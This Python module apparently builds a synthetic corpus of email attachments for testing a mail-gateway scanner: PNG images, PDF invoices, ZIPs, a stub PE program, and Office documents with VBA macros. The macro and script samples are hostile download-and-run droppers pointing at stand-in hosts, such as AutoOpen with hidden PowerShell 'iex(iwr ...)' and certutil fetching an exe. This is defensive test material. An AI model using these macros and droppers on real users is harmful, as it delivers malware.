"""Tiny attachments built from bytes: PNG screenshots, PDF invoices, ZIPs (with and without
a program inside), an Office document carrying a VBA macro, and HTML pages.

The macro document is built with the OLE2/VBA builder of the scanner's tests
(tests/mailgateway/ole_builder.py), loaded by path so that the corpus and those tests
build the same, real, format.
"""

from __future__ import annotations

import importlib.util
import io
import random
import struct
import zipfile
import zlib
from functools import cache
from pathlib import Path

OLE_BUILDER = Path(__file__).resolve().parents[2] / "tests" / "mailgateway" / "ole_builder.py"


@cache
def _ole():
    spec = importlib.util.spec_from_file_location("_phishing_ole_builder", OLE_BUILDER)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def png(rng: random.Random, width: int = 48, height: int = 24) -> bytes:
    rows = b"".join(
        b"\x00" + bytes(rng.choice((0xF0, 0xFF, 0x30, 0x80)) for _ in range(width * 3))
        for _ in range(height)
    )

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(rows, 6))
        + chunk(b"IEND", b"")
    )


def pdf(lines: list[str]) -> bytes:
    """A one-page PDF with the lines in Helvetica (ASCII only, as a PDF text string)."""
    safe = [
        ln.encode("ascii", "replace")
        .decode()
        .replace("\\", "\\\\")
        .replace("(", "\\(")
        .replace(")", "\\)")
        for ln in lines
    ]
    content = (
        "BT /F1 11 Tf 50 780 Td 14 TL " + " ".join(f"({ln}) '" for ln in safe) + " ET"
    ).encode()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, body in enumerate(objects, 1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % i + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for off in offsets:
        out.write(b"%010d 00000 n \n" % off)
    out.write(
        b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    )
    return out.getvalue()


def zip_of(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, body in members.items():
            z.writestr(zipfile.ZipInfo(name, (2026, 10, 30, 14, 12, 0)), body)
    return buf.getvalue()


def program(rng: random.Random) -> bytes:
    head = bytearray(b"MZ" + bytes(62))
    struct.pack_into("<I", head, 0x3C, 64)
    return bytes(head) + b"PE\x00\x00\x4c\x01" + rng.randbytes(1500)


def script(rng: random.Random) -> bytes:
    return rng.choice(
        (
            b'var s=new ActiveXObject("WScript.Shell");s.Run("powershell -w hidden -enc JAB...");',
            b'Set o = CreateObject("WScript.Shell")\r\no.Run "cmd /c start %TEMP%\\inv.exe", 0\r\n',
            b"@echo off\r\npowershell -ExecutionPolicy Bypass -File %TEMP%\\u.ps1\r\n",
        )
    )


MACROS = (
    'Sub AutoOpen()\r\n  Shell "powershell -w hidden -c iex(iwr http://update-check.example/a)"'
    "\r\nEnd Sub\r\n",
    'Sub Document_Open()\r\n  Dim x\r\n  x = Environ("TEMP") & "\\inv.exe"\r\n'
    '  CreateObject("WScript.Shell").Run x\r\nEnd Sub\r\n',
    'Sub Workbook_Open()\r\n  Call Shell("cmd /c certutil -urlcache -f http://198.51.100.7/p '
    '%TEMP%\\p.exe", 0)\r\nEnd Sub\r\n',
)


def macro_doc(rng: random.Random) -> bytes:
    """A Word 97-2003 document (OLE2) with a VBA project that runs on open."""
    ole = _ole()
    # A FIB that starts as Word 97's does, its flags clear (random bytes may read as encrypted).
    word = b"\xec\xa5\xc1\x00" + bytes(596)
    return ole.compound_file({"WordDocument": word, **ole.vba_project(rng.choice(MACROS))})


def macro_docm(rng: random.Random, kind: str = "word") -> bytes:
    """An OOXML document (docm/xlsm) with its vbaProject.bin."""
    ole = _ole()
    bin_ = ole.compound_file(ole.vba_project(rng.choice(MACROS)))
    part = "word" if kind == "word" else "xl"
    main = "document.xml" if kind == "word" else "workbook.xml"
    return zip_of(
        {
            "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.'
            b'openxmlformats.org/package/2006/content-types"/>',
            f"{part}/{main}": b'<?xml version="1.0"?><root/>',
            f"{part}/vbaProject.bin": bin_,
        }
    )


def xlsx(rng: random.Random) -> bytes:
    """A plain spreadsheet (OOXML, no macros)."""
    rows = "".join(
        f'<row r="{i}"><c r="A{i}" t="n"><v>{rng.randint(1, 9999)}</v></c></row>'
        for i in range(1, 20)
    )
    return zip_of(
        {
            "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxml'
            b'formats.org/package/2006/content-types"><Override PartName='
            b'"/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
            b'officedocument.spreadsheetml.sheet.main+xml"/></Types>',
            "xl/workbook.xml": b'<?xml version="1.0"?><workbook/>',
            "xl/worksheets/sheet1.xml": f'<?xml version="1.0"?><worksheet><sheetData>{rows}'
            "</sheetData></worksheet>".encode(),
        }
    )
